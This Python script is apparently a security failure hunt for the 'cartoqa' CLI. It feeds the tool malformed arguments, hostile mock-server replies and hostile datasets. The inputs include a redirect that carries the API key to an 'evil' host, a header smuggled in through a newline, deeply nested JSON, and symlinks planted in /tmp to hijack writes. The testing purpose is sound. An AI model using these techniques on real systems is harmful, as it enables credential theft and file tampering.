"""A failure hunt for issue 31 (not part of the test suite): careless, local-user, hostile."""
import contextlib, io, json, os, socket, sys, threading, time, traceback, pwd, subprocess
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
sys.path.insert(0, os.environ.get("HUNT_TESTS", "/work/wt/sec31/tests"))
from helpers.synthetic_dataset import write_synthetic_dataset
from cartoqa.cli import main

W = Path(os.environ.get("HUNT_W", "/tmp/sec31t/hunt/w")); import shutil; shutil.rmtree(W, ignore_errors=True); W.mkdir(parents=True)
os.chmod(W, 0o755)
DS = write_synthetic_dataset(W / "ds", copies=1)
ids = [json.loads(l)["id"] for l in (DS / "items.jsonl").read_text().splitlines()]
os.environ["CARTOQA_API_KEY"] = "sk-hunt-key-123456"

MODE = {"m": "ok"}
class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        m = MODE["m"]
        bodies = {"ok": b'{"choices":[{"message":{"content":"C"}}]}', "empty": b"", "html": b"<html>x</html>",
                  "nochoices": b'{"choices":[]}', "number": b'{"choices":[{"message":{"content":5}}]}',
                  "nan": b'{"choices":[{"message":{"content":"1"}}],"usage":{"x":NaN}}',
                  "list": b'[1,2]', "bigint": b'{"choices":[{"message":{"content":"1"}}],"usage":{"t":' + b"9"*5000 + b'}}'}
        if m == "auth-in-location":
            self.send_response(302); self.send_header("Location", "http://evil/?k=" + self.headers.get("Authorization","")); self.send_header("Content-Length","0"); self.end_headers(); return
        if m == "500-echo":
            b = ("err " + self.headers.get("Authorization","")).encode()
            self.send_response(500); self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b); return
        b = bodies[m]
        self.send_response(200); self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b)
srv = ThreadingHTTPServer(("127.0.0.1", 0), H); srv.daemon_threads = True
threading.Thread(target=srv.serve_forever, daemon=True).start()
URL = f"http://127.0.0.1:{srv.server_port}/v1"

results = []
def case(name, argv, expect=(2,), mode="ok", check=None, env=None):
    MODE["m"] = mode
    err = io.StringIO(); out = io.StringIO()
    old = {k: os.environ.get(k) for k in (env or {})}
    os.environ.update(env or {})
    t = time.monotonic()
    try:
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
            rc = main(argv)
    except SystemExit as e:
        rc = e.code
    except BaseException as e:
        rc = "TRACEBACK " + type(e).__name__ + ": " + str(e)[:150]
    finally:
        for k, v in old.items():
            if v is None: os.environ.pop(k, None)
            else: os.environ[k] = v
    dt = time.monotonic() - t
    text = err.getvalue()
    lines = [l for l in text.splitlines() if l.strip()]
    ok = rc in expect and "Traceback" not in text and "sk-hunt-key" not in text + out.getvalue()
    extra = ""
    if check:
        try:
            c = check()
            if c: ok, extra = False, c
        except Exception as e:
            ok, extra = False, f"check: {e!r}"
    results.append((name, ok, rc, round(dt, 1), (lines[-1] if lines else "")[:160], extra))
    print(f"{'ok  ' if ok else 'FAIL'} | {name} | rc={rc} | {round(dt,1)}s | {(lines[-1] if lines else '')[:160]} {extra}", file=sys.__stdout__, flush=True)

def run(out, *extra, mode="ok", **kw):
    return ["run", str(DS), "--endpoint", URL, "--model", "m", "--out", str(out), "--no-progress", "--retry-wait", "0.01", "--max-retries", "1", *extra]

P = W / "p.jsonl"
def fresh():
    for p in W.glob("p*.jsonl"): p.unlink()

# -- careless user: run
case("run --endpoint not-a-url", ["run", str(DS), "--endpoint", "not a url", "--model", "m", "--out", str(P)])
case("run --endpoint ftp://", ["run", str(DS), "--endpoint", "ftp://127.0.0.1/v1", "--model", "m", "--out", str(P)])
case("run --endpoint http://[::1", ["run", str(DS), "--endpoint", "http://[::1", "--model", "m", "--out", str(P)])
case("run --timeout inf", run(P, "--timeout", "inf", "--limit", "1"), expect=(0, 2))
case("run --timeout 1e308", run(P, "--timeout", "1e308", "--limit", "1"), expect=(0, 2)); fresh()
case("run --retry-wait inf", run(P, "--retry-wait", "inf", "--limit", "1"), expect=(0, 2)); fresh()
case("run --out parent is a file", run(DS / "items.jsonl" / "p.jsonl"))
FIFO = W / "fifo"; os.mkfifo(FIFO)
if not os.environ.get("HUNT_MAIN"):  # main blocks for ever opening the FIFO (and /dev/full: 21 GB)
    case("run --out a FIFO (or /dev/full)", run(FIFO, "--limit", "1"))
else:
    results.append(("run --out a FIFO (or /dev/full)", False, "hangs / OOM", 0, "", ""))
case("run empty body", run(P, "--limit", "1"), expect=(1,), mode="empty"); fresh()
case("run HTML body", run(P, "--limit", "1"), expect=(1,), mode="html"); fresh()
case("run no choices", run(P, "--limit", "1"), expect=(1,), mode="nochoices"); fresh()
case("run content is a number", run(P, "--limit", "1"), expect=(1,), mode="number"); fresh()
case("run body is a list", run(P, "--limit", "1"), expect=(1,), mode="list"); fresh()
case("run usage NaN", run(P, "--limit", "1"), expect=(0, 1), mode="nan",
     check=lambda: None if "NaN" not in P.read_text() else "NaN written into the predictions (not strict JSON)"); fresh()
case("run usage int of 5000 digits", run(P, "--limit", "1"), expect=(0, 1), mode="bigint"); fresh()
case("run 500 body echoing the key", run(P, "--limit", "1"), expect=(1,), mode="500-echo"); fresh()
case("run redirect carrying the key", run(P, "--limit", "1"), mode="auth-in-location"); fresh()
case("run key with a newline", run(P, "--limit", "1"), env={"CARTOQA_API_KEY": "sk-hunt-key-123456\nX-Evil: 1"}); fresh()
case("run key with non-latin-1", run(P, "--limit", "1"), env={"CARTOQA_API_KEY": "sk-hunt-key-123456\u20ac"}); fresh()
case("run URL with password is not printed", ["run", str(DS), "--endpoint", f"http://u:sk-hunt-key-123456@127.0.0.1:{socket.socket().getsockname()[1] or 9}/v1", "--model", "m", "--out", str(P), "--no-progress", "--limit", "1"]); fresh()
# dataset problems
bad = W / "bad"; shutil.copytree(DS, bad)
(bad / "items.jsonl").write_text("[" * 100000 + "\n")
case("run dataset items nested deep", run(P).__class__(["run", str(bad), "--endpoint", URL, "--model", "m", "--out", str(P)]))
case("validate dataset items nested deep", ["validate", str(bad)])
case("score dataset items nested deep", ["score", str(bad), str(P)])
(bad / "items.jsonl").write_bytes(b'{"id": "a\xff"}\n')
case("validate items not UTF-8", ["validate", str(bad)])
case("run items not UTF-8", ["run", str(bad), "--endpoint", URL, "--model", "m", "--out", str(P)])
(bad / "items.jsonl").unlink(); (bad / "items.jsonl").mkdir()
case("validate items.jsonl a folder", ["validate", str(bad)])
case("score dataset is a file", ["score", str(DS / "items.jsonl"), str(P)])
# score
good = W / "good.jsonl"; good.write_text("".join(json.dumps({"id": i, "response": "A"}) + "\n" for i in ids))
case("score predictions a folder", ["score", str(DS), str(W)])
case("score predictions /dev/null", ["score", str(DS), "/dev/null"])
case("score predictions a JSON array", ["score", str(DS), str((W / "arr.jsonl").write_text("[1,2]\n") and W / "arr.jsonl")])
case("score response a number", ["score", str(DS), str((W / "num.jsonl").write_text(json.dumps({"id": ids[0], "response": 5}) + "\n") and W / "num.jsonl")])
case("score id an object", ["score", str(DS), str((W / "obj.jsonl").write_text(json.dumps({"id": {"a": 1}, "response": "x"}) + "\n") and W / "obj.jsonl")])
rle = [i for i in ids if i.startswith("rle")]
case("score 1e308 m for RLE", ["score", str(DS), str((W / "big.jsonl").write_text("".join(json.dumps({"id": i, "response": "1e308 m"}) + "\n" for i in rle)) and W / "big.jsonl"), "--out", str(W / "big.score.json"), "--no-connectivity"], expect=(0,),
     check=lambda: None)
case("score NaN m for RLE", ["score", str(DS), str((W / "nan.jsonl").write_text("".join(json.dumps({"id": i, "response": "NaN m"}) + "\n" for i in rle)) and W / "nan.jsonl"), "--out", str(W / "nan.score.json"), "--no-connectivity"], expect=(0,))
case("score --out a FIFO (or /dev/full: the rename replaced the device as root)", ["score", str(DS), str(good), "--out", str(FIFO), "--no-connectivity"],
     check=lambda: None if FIFO.is_fifo() else "the FIFO was replaced")
case("score --out in a missing read-only place", ["score", str(DS), str(good), "--out", "/proc/x/r.json", "--no-connectivity"])
case("score xlsx that is not a zip", ["score", str(DS), str((W / "m.xlsx").write_text("hi") and W / "m.xlsx")])
case("score tsv with NUL", ["score", str(DS), str((W / "n.tsv").write_bytes(b"id\tprediction\n" + ids[0].encode() + b"\tA\x00B\n") and W / "n.tsv"), "--out", str(W / "n.json"), "--no-connectivity"], expect=(0, 2))
case("score tsv empty", ["score", str(DS), str((W / "e.tsv").write_text("") or W / "e.tsv")])
case("score --extractor-endpoint garbage", ["score", str(DS), str(good), "--extractor-endpoint", "http://[::1", "--extractor-model", "x"])
# report / export
case("report --out is the predictions file", ["report", str(DS), str(good), "--out", str(good), "--no-connectivity"])
case("report predictions missing", ["report", str(DS), str(W / "missing.jsonl"), "--out", str(W / "rep1"), "--no-connectivity"])
(W / "notrep").mkdir(); (W / "notrep" / "mine.txt").write_text("x")
case("report --overwrite a foreign folder", ["report", str(DS), "--out", str(W / "notrep"), "--overwrite", "--no-connectivity"])
case("export --overwrite a foreign folder", ["export", str(DS), "--format", "hf", str(W / "notrep"), "--overwrite"])
case("export OUT is the dataset's parent", ["export", str(DS), "--format", "hf", str(W), "--overwrite"])
case("export OUT is /", ["export", str(DS), "--format", "hf", "/", "--overwrite"])
# build-many careless
case("build-many spec is a folder", ["build-many", str(W)])
case("build-many spec missing", ["build-many", str(W / "none.toml")])
sp = W / "huge.toml"; sp.write_text("per_task = 100000000\n[[city]]\nname='a'\nextract='kotka'\n")
case("build-many per_task 1e8", ["build-many", str(sp), "--scheduler", "http://x"], expect=(2,))
sp.write_text("[[city]]\nname='a'\nextract='kotka'\n")
case("build-many --workers 100000", ["build-many", str(sp), "--workers", "100000", "--scheduler", "tls://127.0.0.1:1"], expect=(2,),
     check=lambda: None)
# hostile dataset: an image that links out
evil = W / "evilds"; shutil.copytree(DS, evil)
first = json.loads((evil / "items.jsonl").read_text().splitlines()[0])
img = evil / first["image"]; img.unlink(); img.symlink_to(victim := (W / "secret.txt")); victim.write_text("secret\n")
MODE["count"] = 0
case("run: a dataset image links to a file outside", ["run", str(evil), "--endpoint", URL, "--model", "m", "--out", str(W / "pe.jsonl"), "--no-progress", "--limit", "1"])
case("export: a dataset image links outside", ["export", str(evil), "--format", "hf", str(W / "exevil")],
     check=lambda: None if not any(b"secret" in p.read_bytes() for p in (W / "exevil").rglob("*") if p.is_file()) else "the secret was exported")
case("report --images copy: a dataset image links outside", ["report", str(evil), "--out", str(W / "repevil"), "--no-connectivity"], expect=(0, 2),
     check=lambda: None if not (W / "repevil").exists() or not any(b"secret" in p.read_bytes() for p in (W / "repevil").rglob("*") if p.is_file()) else "the secret was copied into the report")
case("run --concurrency 100000", run(W / "pc.jsonl", "--concurrency", "100000", "--limit", "2"), expect=(0,))
case("run --model empty", run(W / "pm.jsonl").__class__(["run", str(DS), "--endpoint", URL, "--model", "", "--out", str(W / "pm.jsonl"), "--no-progress", "--limit", "1"]), expect=(0, 2))
case("score the same file twice", ["score", str(DS), str(good), str(good), "--out", str(W / "twice.json"), "--no-connectivity"], expect=(0, 2))
case("report --out /dev/null", ["report", str(DS), "--out", "/dev/null", "--no-connectivity"])
case("validate a dataset whose manifest is nested deep", ["validate", str((lambda d: (shutil.copytree(DS, d), (d / "manifest.json").write_text("[" * 100000), d)[2])(W / "deepman"))])
case("report a dataset whose manifest is nested deep", ["report", str(W / "deepman"), "--out", str(W / "repdeep"), "--no-connectivity"])
case("export a dataset whose manifest is nested deep", ["export", str(W / "deepman"), "--format", "hf", str(W / "exdeep")])
case("score a build-many folder whose manifest is nested deep", ["score", str((lambda d: (d.mkdir(), (d / "manifest.json").write_text('{"format": "cartoqa-build-many", "cities": ' + "[" * 100000 + "}"), d)[2])(W / "deepmany")), str(good)])
# another local user
nobody = pwd.getpwnam("nobody")
shared = Path(os.environ.get("HUNT_SHARED", "/tmp/sec31-shared")); shutil.rmtree(shared, ignore_errors=True); shared.mkdir(); shared.chmod(0o1777)
victim = W / "victim.txt"; victim.write_text("precious")
link = shared / "p.jsonl"; link.symlink_to(victim); os.lchown(link, nobody.pw_uid, nobody.pw_gid)
case("run --out a link planted by nobody in /tmp", run(link, "--limit", "1"),
     check=lambda: None if victim.read_text() == "precious" else "the victim file was written through the link")
lk = shared / ".q.jsonl.lock"; lk.symlink_to(victim); os.lchown(lk, nobody.pw_uid, nobody.pw_gid)
case("run lock file a link planted by nobody", run(shared / "q.jsonl", "--limit", "1"),
     check=lambda: None if victim.read_text() == "precious" else "victim changed")
theirs = shared / "r.jsonl"; theirs.write_text(json.dumps({"id": ids[0], "response": "x", "model": "m"}) + "\n"); os.chown(theirs, nobody.pw_uid, nobody.pw_gid)
case("run --out a predictions file nobody made in /tmp", run(theirs, "--limit", "2"))
st = shared / ".rep.report-1"; st.symlink_to(W / "notrep"); 
case("report staging name planted as a link", ["report", str(DS), "--out", str(shared / "rep"), "--no-connectivity"], expect=(0, 2),
     check=lambda: None if (W / "notrep" / "mine.txt").exists() else "deleted through the link")
print(sum(1 for r in results if not r[1]), "failures of", len(results))
srv.shutdown()
